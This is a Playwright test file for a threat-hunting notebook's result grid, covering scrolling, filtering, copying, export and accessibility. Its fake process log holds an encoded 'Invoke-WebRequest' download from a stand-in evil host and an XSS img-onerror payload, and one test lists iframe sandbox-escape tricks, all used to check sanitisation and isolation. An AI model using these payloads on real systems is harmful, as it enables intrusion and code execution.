// biome-ignore-all lint/suspicious/noTemplateCurlyInString: ${…} is the notebook's own syntax
import assert from "node:assert/strict";
import { mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { createRequire } from "node:module";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { after, before, test } from "node:test";
import type { Browser, BrowserContext, Frame, Locator, Page } from "playwright-core";
import { type NotebookCell, newCell, newNotebook } from "../../notebooks/document/notebook.ts";
import { serializeNotebook } from "../../notebooks/document/notebook-html.ts";
import { launchChromium, withoutChromium } from "../browser.ts";
import { type RunningServer, startServer } from "../server/running-server.ts";

const ROOT = join(import.meta.dirname, "..", "..");
const PICTURES = join(ROOT, ".artefacts", "screens");
const EVENTS = 3000;
const skip = withoutChromium;
const ROWS = `SELECT _time, host, "user", pid, bytes, command, details, image FROM process_log ORDER BY _time`;

let folder: string;
let server: RunningServer;
let browser: Browser;
let context: BrowserContext;

before(
  async () => {
    if (withoutChromium) return;
    folder = mkdtempSync(join(tmpdir(), "spoor-result-"));
    mkdirSync(PICTURES, { recursive: true });
    writeFileSync(join(folder, "process_log.ndjson"), events());
    server = await startServer(join(folder, "workspace"), ["--empty"]);
    await server.job("/api/sources", {
      name: "process_log",
      paths: [join(folder, "process_log.ndjson")],
      owner: "ada",
    });
    browser = await launchChromium();
    context = await browser.newContext({ viewport: { width: 1280, height: 900 }, acceptDownloads: true });
    await context.grantPermissions(["clipboard-read", "clipboard-write"], { origin: server.url });
  },
  { timeout: 120_000 },
);

after(async () => {
  await browser?.close();
  await server?.stop();
  if (folder) rmSync(folder, { recursive: true, force: true });
});

function events(): string {
  const images = ["C:\\Windows\\System32\\cmd.exe", "C:\\Windows\\System32\\svchost.exe", "/usr/bin/python3"];
  const encoded = Buffer.from("Invoke-WebRequest http://evil.example/a", "utf16le").toString("base64");
  const lines = Array.from({ length: EVENTS }, (_event, index) =>
    JSON.stringify({
      time: new Date(Date.UTC(2026, 10, 16) + index * 200_000).toISOString(),
      host: `host-${index % 37}`,
      user: index % 11 === 0 ? null : index % 13 === 0 ? "" : `user${index % 101}`,
      pid: (index * 7919) % 65_536,
      bytes: Math.round(Math.exp(((index * 37) % 100) / 8)),
      command:
        index % 500 === 7
          ? '<img src=x onerror="window.hacked = 1">'
          : index % 50 === 3
            ? encoded
            : `cmd.exe /c echo ${index}`,
      details: { rule: index % 5, tags: ["a", "b"], deep: { at: index } },
      image: images[index % 3],
    }),
  );
  return lines.join("\n");
}

interface OpenNotebook {
  readonly page: Page;
  readonly frame: Frame;
  output(id: number): Locator;
  /** Shows a cell and waits for what its output's status line says. */
  ended(id: number, text: RegExp): Promise<void>;
  readonly complaints: string[];
}

async function open(
  name: string,
  cells: readonly (Partial<NotebookCell> & { readonly id: number })[],
  options: { readonly width?: number; readonly dark?: boolean } = {},
): Promise<OpenNotebook> {
  await server.json(`/api/notebooks/${name}`, {
    method: "PUT",
    headers: { "content-type": "application/json" },
    body: JSON.stringify({
      html: serializeNotebook(newNotebook({ title: "Results", cells: cells.map(newCell) })),
    }),
  });
  const page = await context.newPage();
  await page.setViewportSize({ width: options.width ?? 1500, height: 900 });
  await page.emulateMedia({ colorScheme: options.dark ? "dark" : "light" });
  page.setDefaultTimeout(20_000);
  const complaints: string[] = [];
  page.on("console", (message) => {
    if (message.type() === "error") complaints.push(message.text());
  });
  page.on("pageerror", (error) => complaints.push(error.message));
  await page.goto(server.signIn);
  await page.goto(`${server.url}/notebooks/${name}`);
  const handle = await page.locator("iframe").first().elementHandle();
  const frame = (await handle!.contentFrame())!;
  const output = (id: number) => page.frameLocator("iframe").first().locator(`.output[data-cell='${id}']`);
  return {
    page,
    frame,
    output,
    complaints,
    ended: async (id, text) => {
      await page.locator(`spoor-notebook-cell[data-cell='${id}']`).scrollIntoViewIfNeeded();
      await output(id).locator(".result-status", { hasText: text }).waitFor({ timeout: 40_000 });
    },
  };
}

const head = (output: Locator, name: string) => output.locator(`.grid-head-cell[data-column='${name}']`);

/** Texts of a column in the rows that are shown, by its place in the table. */
async function shownColumn(output: Locator, place: number): Promise<string[]> {
  return output
    .locator(".grid-body")
    .evaluate(
      (body, wanted) =>
        [...body.querySelectorAll<HTMLElement>(".grid-row")]
          .sort((left, right) => Number(left.dataset.row) - Number(right.dataset.row))
          .map((row) => row.querySelector(`[data-place='${wanted}']`)?.textContent ?? ""),
      place,
    );
}

const settled = async (output: Locator) => {
  await output.locator(".grid-row:not(.loading)").first().waitFor();
  await output.page().waitForTimeout(150);
};

test("ten million rows: the first at once while the others come, then any row in a moment", {
  skip,
  timeout: 120_000,
}, async () => {
  const { page, output, ended, complaints } = await open("large", [
    {
      id: 1,
      mode: "sql",
      pinned: true,
      value:
        "SELECT range AS i, range * 7919 % 65536 AS pid, 'host-' || (range % 37) AS host, TIMESTAMP '2026-01-01' + to_seconds(range) AS seen FROM range(10000000)",
    },
  ]);
  const table = output(1);
  await table.locator(".grid-row:not(.loading) td").first().waitFor();
  const status = table.locator(".result-status");
  const early = (await status.textContent())!;
  const heightWhileGrowing = (await table.locator(".result-grid").boundingBox())!.height;
  if (!/complete/.test(early)) {
    assert.match(early, /rows so far/);
    assert.equal(await status.getByRole("button", { name: "Cancel" }).count(), 1);
  }
  await ended(1, /10,000,000 rows\s*complete/);
  assert.equal(
    (await table.locator(".result-grid").boundingBox())!.height,
    heightWhileGrowing,
    "nothing moved",
  );
  await head(table, "host").locator(".top-values button").first().waitFor({ timeout: 40_000 });
  await head(table, "seen").locator(".histogram").waitFor({ timeout: 40_000 });
  const jumpsMs: number[] = [];
  for (const share of [0.5, 0.93, 0.27, 1]) {
    jumpsMs.push(
      await table.locator(".grid").evaluate(async (grid, to) => {
        const started = performance.now();
        grid.scrollTop = grid.scrollHeight * to;
        for (;;) {
          await new Promise(requestAnimationFrame);
          const rows = [...grid.querySelectorAll(".grid-body .grid-row")];
          const first = Number(rows[0]?.querySelector("td")?.textContent ?? -1);
          const near = Math.abs(first - to * 1e7) < 2e5;
          if (near && !rows.some((row) => row.classList.contains("loading"))) break;
          if (performance.now() - started > 5000) break;
        }
        return performance.now() - started;
      }, share),
    );
  }
  jumpsMs.sort((left, right) => left - right);
  assert.ok(jumpsMs[1]! < 400, `jumps took ${jumpsMs.map(Math.round).join(", ")} ms`);
  assert.ok((await table.locator(".grid-row").count()) < 60, "only rows in view are in the document");
  assert.ok((await shownColumn(table, 0)).includes("9999999"), "the last row is the last");
  // The wheel moves by its own pixels, though the bar stands for thirty times as many.
  const before = Number((await shownColumn(table, 0))[0]);
  await table.locator(".grid").hover();
  await page.mouse.wheel(0, -240);
  await page.waitForTimeout(300);
  const moved = before - Number((await shownColumn(table, 0))[0]);
  assert.ok(moved >= 5 && moved <= 30, `ten rows by the wheel, not ${moved}`);
  await table.locator(".grid").focus();
  await page.keyboard.press("Control+Home");
  await page.keyboard.press("PageDown");
  await page.keyboard.press("PageUp");
  await settled(table);
  assert.equal((await shownColumn(table, 0))[0], "0");
  assert.deepEqual(complaints, []);
  await page.close();
});

test("heads say what columns hold, and filter and sort by it", { skip, timeout: 60_000 }, async () => {
  const { page, output, ended, complaints } = await open("heads", [
    { id: 1, mode: "sql", pinned: true, value: ROWS },
  ]);
  const table = output(1);
  await ended(1, /3,000 rows\s*complete/);
  await head(table, "host").locator(".top-values button").first().waitFor();
  assert.match((await head(table, "host").locator(".head-facts").textContent())!, /37 distinct/);
  assert.match((await head(table, "user").locator(".head-facts").textContent())!, /9 % null/);
  assert.equal(await head(table, "pid").locator(".histogram .bin").count(), 24);

  await head(table, "host").locator(".top-values button").first().click();
  await ended(1, /8[12] of 3,000 rows/);
  await settled(table);
  assert.equal(new Set(await shownColumn(table, 1)).size, 1);
  await page.screenshot({ path: join(PICTURES, "result-filtered-1500-light.png") });
  await table.getByRole("button", { name: /Remove filter: host is/ }).click();
  await ended(1, /(?<![\d,])3,000 rows/);

  await head(table, "host").locator(".top-values button").first().waitFor();
  await head(table, "host")
    .locator(".top-values button")
    .first()
    .click({ modifiers: ["Alt"] });
  await ended(1, /2,91[89] of 3,000 rows/);
  await table.getByRole("button", { name: /Remove filter: host is not/ }).click();
  await ended(1, /(?<![\d,])3,000 rows/);

  const histogram = head(table, "_time").locator(".histogram");
  await histogram.waitFor();
  const box = (await histogram.boundingBox())!;
  await page.mouse.move(box.x + 2, box.y + 12);
  await page.mouse.down();
  await page.mouse.move(box.x + box.width / 4, box.y + 12, { steps: 4 });
  await page.mouse.up();
  await table.locator(".result-status", { hasText: /(?<![\d,])\d{3} of 3,000 rows/ }).waitFor();
  await table.getByRole("button", { name: /Remove filter: _time/ }).click();
  await ended(1, /(?<![\d,])3,000 rows/);

  await head(table, "pid").locator(".head-name").click();
  await settled(table);
  const pids = (await shownColumn(table, 3)).map(Number);
  assert.deepEqual(
    pids,
    [...pids].sort((left, right) => left - right),
  );
  assert.equal(await head(table, "pid").getAttribute("aria-sort"), "ascending");
  await head(table, "pid").locator(".head-name").click();
  await settled(table);
  const highest = Math.max(...Array.from({ length: EVENTS }, (_event, index) => (index * 7919) % 65_536));
  assert.equal((await shownColumn(table, 3))[0], String(highest));
  await head(table, "pid").locator(".head-name").click();

  await head(table, "command").locator(".head-menu").click();
  await table.getByRole("menuitem", { name: "Filter…" }).click();
  await table.locator(".filter-form input[name=value]").fill("ECHO 12");
  await page.keyboard.press("Enter");
  await ended(1, /\d+ of 3,000 rows/);
  await settled(table);
  assert.ok((await shownColumn(table, 5)).every((text) => text.includes("echo 12")));

  const cellsBefore = await page.locator("spoor-notebook-cell").count();
  await table.getByRole("button", { name: "Keep in query" }).click();
  await page.waitForFunction(
    (count) => document.querySelectorAll("spoor-notebook-cell").length > count,
    cellsBefore,
  );
  assert.deepEqual(complaints, []);
  await page.close();
});

test("columns are drawn, moved, pinned and hidden", { skip, timeout: 60_000 }, async () => {
  const { page, output, ended } = await open("columns", [{ id: 1, mode: "sql", pinned: true, value: ROWS }]);
  const table = output(1);
  await ended(1, /3,000 rows\s*complete/);
  const width = async (name: string) => (await head(table, name).boundingBox())!.width;
  const before = await width("host");
  const edge = (await head(table, "host").locator(".head-edge").boundingBox())!;
  await page.mouse.move(edge.x + 4, edge.y + 30);
  await page.mouse.down();
  await page.mouse.move(edge.x + 64, edge.y + 30, { steps: 3 });
  await page.mouse.up();
  assert.ok(Math.abs((await width("host")) - before - 60) < 8);
  const menu = async (name: string, item: string) => {
    await head(table, name).locator(".head-menu").click();
    await table.getByRole("menuitem", { name: item }).click();
  };
  await menu("pid", "Pin left");
  await table.locator(".grid").evaluate((grid) => {
    grid.scrollLeft = 4000;
  });
  await page.waitForTimeout(200);
  const box = (await head(table, "pid").boundingBox())!;
  const grid = (await table.locator(".grid").boundingBox())!;
  assert.ok(box.x - grid.x < 80, "a pinned column stays on the left");
  assert.equal(await head(table, "_time").count(), 0, "columns out of view are not in the document");
  await head(table, "image").waitFor();
  await table.locator(".grid").evaluate((element) => {
    element.scrollLeft = 0;
  });
  await menu("host", "Hide");
  await page.waitForTimeout(150);
  assert.equal(await head(table, "host").count(), 0);
  await table.getByRole("button", { name: "Columns" }).click();
  await table.getByRole("menuitemcheckbox", { name: "host" }).click();
  await page.keyboard.press("Escape");
  await head(table, "host").waitFor();
  await menu("host", "Move left");
  await page.waitForTimeout(150);
  const order = await table.locator(".grid-head-cell .name").allTextContents();
  assert.deepEqual(order.slice(0, 3), ["pid", "host", "_time"]);
  const from = (await head(table, "_time").locator(".head-name").boundingBox())!;
  const onto = (await head(table, "host").boundingBox())!;
  await page.mouse.move(from.x + 10, from.y + 8);
  await page.mouse.down();
  await page.mouse.move(onto.x + 20, from.y + 8, { steps: 5 });
  await page.mouse.up();
  await page.waitForTimeout(150);
  assert.deepEqual((await table.locator(".grid-head-cell .name").allTextContents()).slice(0, 3), [
    "pid",
    "_time",
    "host",
  ]);
  assert.equal(await head(table, "_time").getAttribute("aria-sort"), "none", "drawing is no click");
  await page.close();
});

test("keys: one tab stop, ranges, copying, the row as a view of its own", {
  skip,
  timeout: 60_000,
}, async () => {
  const { page, output, ended, frame, complaints } = await open("keys", [
    { id: 1, mode: "sql", pinned: true, value: ROWS },
  ]);
  const table = output(1);
  await ended(1, /3,000 rows\s*complete/);
  await table.locator(".grid").focus();
  await page.keyboard.press("ArrowRight");
  await page.keyboard.press("Control+c");
  const clipboard = () => page.evaluate(() => navigator.clipboard.readText());
  await table.locator(".said", { hasText: "Copied" }).waitFor();
  assert.equal(await clipboard(), "host-0");
  await page.keyboard.press("Shift+ArrowDown");
  await page.keyboard.press("Shift+ArrowDown");
  await table.locator(".grid-row.selected").nth(2).waitFor();
  assert.equal(await table.locator(".grid-row.selected").count(), 3);
  await page.keyboard.press("Control+c");
  await table.locator(".said", { hasText: "Copied 3 rows" }).waitFor();
  const copied = (await clipboard()).split("\n");
  assert.equal(copied[0], "_time\thost\tuser\tpid\tbytes\tcommand\tdetails\timage");
  assert.match(copied[1]!, /^2026-11-16 00:00:00\thost-0\t\t0\t/);
  assert.equal(copied.length, 5);

  await table.getByRole("button", { name: "Copy" }).click();
  await table.getByRole("menuitem", { name: "Markdown table" }).click();
  await page.waitForTimeout(300);
  assert.match(await clipboard(), /^\| \\_time \| host \|.*\n\| --- \|/);
  await table.getByRole("button", { name: "Copy" }).click();
  await table.getByRole("menuitem", { name: "JSON" }).click();
  await page.waitForTimeout(300);
  const json = JSON.parse(await clipboard());
  assert.equal(json.length, 3);
  assert.deepEqual(json[2].details.tags, ["a", "b"]);

  await table.locator(".grid").focus();
  await page.keyboard.press("Control+Home");
  await page.keyboard.press("ArrowDown");
  await page.keyboard.press("Enter");
  const detail = table.locator(".row-detail");
  await detail.getByText("Row 2").waitFor();
  assert.equal(await detail.locator(".field").count(), 8);
  await detail.locator(".branch .key", { hasText: "deep" }).waitFor();
  await page.screenshot({ path: join(PICTURES, "result-row-1500-light.png") });
  await detail.locator("li", { hasText: "rule" }).first().hover();
  await detail.getByRole("button", { name: "path" }).nth(1).click();
  await page.waitForTimeout(200);
  assert.equal(await clipboard(), "details.rule");
  await detail.focus();
  await page.keyboard.press("ArrowDown");
  await detail.getByText("Row 3").waitFor();
  await page.keyboard.press("Escape");
  await detail.waitFor({ state: "detached" });
  assert.equal(await frame.evaluate(() => document.activeElement?.className), "grid");
  assert.equal(await frame.evaluate(() => (window as { hacked?: number }).hacked ?? null), null);
  assert.equal(await table.locator("td img, .row-detail img").count(), 0);
  assert.deepEqual(complaints, []);
  await page.close();
});

test("what can be done with a value: filter, pivot, pin, literal, decoded", {
  skip,
  timeout: 60_000,
}, async () => {
  const { page, output, ended } = await open("values", [
    { id: 1, mode: "sql", pinned: true, value: `${ROWS} LIMIT 100` },
  ]);
  const table = output(1);
  await ended(1, /100 rows\s*complete/);
  const cell = (row: number, place: number) => table.locator(`[data-row='${row}'] [data-place='${place}']`);
  await table.locator(".grid").focus();
  await cell(3, 5).scrollIntoViewIfNeeded();
  await cell(3, 5).click();
  await page.keyboard.press("Shift+F10");
  const menu = table.getByRole("menu");
  await menu.locator(".decoded", { hasText: "Invoke-WebRequest http://evil.example/a" }).waitFor();
  await page.screenshot({ path: join(PICTURES, "result-value-1500-light.png") });
  await page.keyboard.press("Escape");
  await cell(0, 1).click({ button: "right" });
  await menu.getByRole("menuitem", { name: "Copy as SQL literal" }).click();
  await page.waitForTimeout(200);
  assert.equal(await page.evaluate(() => navigator.clipboard.readText()), "'host-0'");
  await cell(0, 1).click({ button: "right" });
  await menu.getByRole("menuitem", { name: "Filter to this" }).click();
  await ended(1, /(?<![\d,])3 of 100 rows/);
  await cell(0, 2).click({ button: "right" });
  await menu.getByRole("menuitem", { name: "Filter out" }).click();
  await table.getByRole("button", { name: "Remove filter: user is not null" }).waitFor();
  await cell(0, 1).click({ button: "right" });
  await menu.getByRole("menuitem", { name: "Everything about this value" }).click();
  await page.locator("spoor-entity-panel").waitFor();
  await cell(0, 1).click({ button: "right" });
  await menu.getByRole("menuitem", { name: "Pin this row" }).click();
  await page.locator("dialog[open]").waitFor();
  await page.close();
});

test("rows are saved as files by a person's hand, and a program alone saves none", {
  skip,
  timeout: 60_000,
}, async () => {
  const { page, output, ended } = await open("files", [{ id: 1, mode: "sql", pinned: true, value: ROWS }]);
  const table = output(1);
  await ended(1, /3,000 rows\s*complete/);
  for (const [label, end] of [
    ["CSV", "csv"],
    ["NDJSON", "ndjson"],
    ["Parquet", "parquet"],
    ["Arrow", "arrow"],
  ] as const) {
    const download = page.waitForEvent("download");
    await table.getByRole("button", { name: "Export" }).click();
    await table.getByRole("menuitem", { name: label, exact: true }).click();
    const file = await download;
    assert.match(file.suggestedFilename(), new RegExp(`^spoor-cell-1-.*\\.${end}$`));
    const bytes = readFileSync(await file.path());
    if (end === "csv") assert.equal(bytes.toString().trim().split("\n").length, EVENTS + 1);
    if (end === "ndjson") assert.equal(bytes.toString().trim().split("\n").length, EVENTS);
    if (end === "parquet") assert.equal(bytes.subarray(0, 4).toString(), "PAR1");
  }
  await page.close();
});

test("a result says whether it is whole: kept, cancelled, failed; and nobody reads half of one", {
  skip,
  timeout: 90_000,
}, async () => {
  const { page, output, ended } = await open("phases", [
    { id: 1, mode: "sql", pinned: true, output: "some", value: `${ROWS} LIMIT 50` },
    {
      id: 2,
      mode: "js",
      value: "`${some.length} rows, complete ${some.complete}, kept as ${typeof some.result}`",
    },
    {
      id: 3,
      mode: "sql",
      pinned: true,
      output: "endless",
      value:
        "SELECT a.range AS a, b.range AS b FROM range(1000000) AS a, range(100000) AS b WHERE hash(a.range, b.range) % 1000 = 0",
    },
    { id: 4, mode: "js", value: "`${endless.length} rows of half a result`" },
    { id: 5, mode: "sql", pinned: true, value: "SELECT CAST(host AS INTEGER) AS number FROM process_log" },
    { id: 6, mode: "js", pinned: true, value: "const one = 1;\nconst none = null;\ndisplay(none.field)" },
    {
      id: 7,
      mode: "ts",
      value: "const words: string[] = some.map((row) => row.host as string);\ndisplay(words[0])",
    },
    { id: 8, mode: "html", value: "<b>${some.length}</b> rows <button onclick=${() => 1}>button</button>" },
  ]);
  await ended(1, /50 rows\s*complete/);
  await output(2).getByText("50 rows, complete true, kept as string").waitFor();
  await output(7).getByText("host-0").waitFor();
  await output(8).getByText("50").waitFor();
  await page.locator("spoor-notebook-cell[data-cell='3']").scrollIntoViewIfNeeded();
  await output(3).locator(".result-status").getByRole("button", { name: "Cancel" }).click();
  await ended(3, /not complete: cancelled/);
  await page.locator("spoor-notebook-cell[data-cell='4'] .cell-error", { hasText: "cancelled" }).waitFor();
  assert.doesNotMatch((await output(4).textContent()) ?? "", /half a result/);
  await page.locator("spoor-notebook-cell[data-cell='5'] .cell-error").waitFor();
  await page
    .locator("spoor-notebook-cell[data-cell='6'] .cell-error", { hasText: "Line 3, column" })
    .waitFor();
  await page.close();

  const again = await open("kept", [
    { id: 1, mode: "sql", pinned: true, value: "SELECT host, pid FROM process_log LIMIT 50" },
  ]);
  await again.ended(1, /50 rows\s*complete/);
  await again.page.reload();
  await again.ended(1, /kept: same data/);
  await again.output(1).getByRole("button", { name: "Run again" }).click();
  await again.output(1).locator(".kept").waitFor({ state: "detached" });
  await again.ended(1, /50 rows\s*complete/);
  await again.page.close();
});

test("inputs of a hunter fill the SQL that names them", { skip, timeout: 60_000 }, async () => {
  const { page, output, ended, complaints } = await open("inputs", [
    {
      id: 1,
      mode: "js",
      pinned: true,
      value:
        'const range = view(Inputs.timeRange({label: "Time", value: {from: "2026-11-16", until: "2026-11-18"}}));\nconst host = view(Inputs.entity({entity: "host", label: "Host"}))',
    },
    {
      id: 2,
      mode: "sql",
      pinned: true,
      value:
        "SELECT _time, host FROM process_log WHERE _time BETWEEN ${range.from} AND ${range.until} AND (${host} = '' OR host = ${host})",
    },
  ]);
  await ended(2, /(?<![\d,])865 rows/);
  await output(1).getByLabel("Until (UTC)").fill("2026-11-17 00:00");
  await output(1).getByLabel("Until (UTC)").press("Enter");
  await ended(2, /(?<![\d,])433 rows/);
  await output(1).getByLabel("Host").fill("host-1");
  await output(1).getByLabel("Host").press("Enter");
  await ended(2, /(?<![\d,])12 rows/);
  await output(1).getByLabel("From (UTC)").fill("yesterday");
  await output(1).getByLabel("From (UTC)").press("Enter");
  await ended(2, /(?<![\d,])12 rows/);
  assert.deepEqual(complaints, []);
  await page.close();
});

test("a cell makes no document of its own, by name or by markup", { skip, timeout: 60_000 }, async () => {
  const ways = [
    'let n = 0; document.body.append(document.createElement({ toString: () => (n++ ? "iframe" : "div") }))',
    'const { exec } = RegExp.prototype; const { replace } = String.prototype; RegExp.prototype.exec = () => null; String.prototype.replace = function () { return this; }; try { document.body.insertAdjacentHTML("beforeend", "<iframe></iframe>"); document.body.append(document.createElement("iframe")); } finally { RegExp.prototype.exec = exec; String.prototype.replace = replace; }',
    'const { call } = Function.prototype; Function.prototype.call = function () { globalThis.stolen = this; }; try { document.createElement("p"); } finally { Function.prototype.call = call; } document.body.append(globalThis.stolen.apply(document, ["iframe"]))',
    'document.body.append(document.createElement("IFRAME"))',
    'document.body.append(document.createElementNS("http://www.w3.org/1999/xhtml", "x:iframe"))',
    'document.body.insertAdjacentHTML("beforeend", "<iframe></iframe>")',
    'document.body.append(new DOMParser().parseFromString("<iframe></iframe>", "text/html").body.firstChild)',
    `document.body.append(document.importNode(new DOMParser().parseFromString("<iframe xmlns='http://www.w3.org/1999/xhtml'/>", "text/xml").documentElement, true))`,
    'const t = document.createElement("template"); t.innerHTML = "<object data=x></object><iframe>"; document.body.append(t.content)',
    'document.body.append(document.createRange().createContextualFragment("<iframe></iframe>"))',
    'document.body.append(document.implementation.createDocument("http://www.w3.org/1999/xhtml", "iframe").documentElement)',
    'document.body.append(document.implementation.createHTMLDocument().createElement("iframe"))',
    'document.body.attachShadow ? (document.createElement("div").attachShadow({mode: "open"}).innerHTML = "<iframe>") : 0',
    "document.body.append(html`<iframe></iframe>`)",
    'document.body.append(document.createElement("div").setHTMLUnsafe ? (() => { const d = document.createElement("div"); d.setHTMLUnsafe("<iframe></iframe>"); return d; })() : "")',
  ];
  const { page, output } = await open("documents", [
    {
      id: 1,
      mode: "js",
      value: `{
  let failed = 0;
  ${ways.map((way) => `try { ${way} } catch { failed += 1; }`).join("\n  ")}
  display("documents: " + window.length + ", realms: " + [...Array(window.length)].filter((_, i) => window[i].RTCPeerConnection).length);
  display("peers: " + typeof RTCPeerConnection);
}`,
    },
    { id: 2, mode: "js", value: 'Plot.plot({marks: [Plot.dot([[1, 2]])], ariaLabel: "still draws"})' },
    { id: 3, mode: "md", value: "**bold** <kbd>k</kbd> ${1 + 1}" },
  ]);
  await output(1).getByText("documents: 0, realms: 0").waitFor();
  await output(1).getByText("peers: undefined").waitFor();
  await output(2).locator("svg circle").waitFor();
  await output(3).locator("kbd").waitFor();
  await page.close();
});

test("it is sound to axe and looks right, light and dark, narrow and wide", {
  skip,
  timeout: 90_000,
}, async () => {
  const axe = readFileSync(createRequire(import.meta.url).resolve("axe-core/axe.min.js"), "utf8");
  for (const { width, dark } of [
    { width: 1280, dark: false },
    { width: 1920, dark: true },
  ]) {
    const { page, frame, output, ended } = await open(
      `look-${width}`,
      [
        { id: 1, mode: "sql", pinned: true, value: ROWS },
        {
          id: 2,
          mode: "sql",
          pinned: true,
          value: "SELECT count(*) AS events, max(_time) AS last FROM process_log",
        },
      ],
      { width, dark },
    );
    const table = output(1);
    await ended(1, /3,000 rows\s*complete/);
    await head(table, "pid").locator(".histogram").waitFor();
    await head(table, "host").locator(".top-values button").nth(1).click();
    await head(table, "host").locator(".head-menu").click();
    await page.waitForTimeout(400);
    const name = `${width}-${dark ? "dark" : "light"}`;
    await page.screenshot({ path: join(PICTURES, `result-menu-${name}.png`) });
    const violations = async () => {
      await frame.evaluate(axe);
      return frame.evaluate(async () => {
        const { axe: checker } = window as unknown as {
          axe: {
            run(options: unknown): Promise<{ violations: { id: string; nodes: { html: string }[] }[] }>;
          };
        };
        const found = await checker.run({ runOnly: ["wcag2a", "wcag2aa", "wcag21aa"] });
        return found.violations.map(({ id, nodes }) =>
          `${id}: ${nodes.map(({ html }) => html).join(" ")}`.slice(0, 600),
        );
      });
    };
    assert.deepEqual(await violations(), [], `a menu at ${name}`);
    await page.keyboard.press("Escape");
    await table.locator(".grid").focus();
    await page.keyboard.press("Enter");
    await table.locator(".row-detail").waitFor();
    assert.deepEqual(await violations(), [], `a row at ${name}`);
    await page.screenshot({ path: join(PICTURES, `result-row-${name}.png`) });
    await page.close();
  }
});
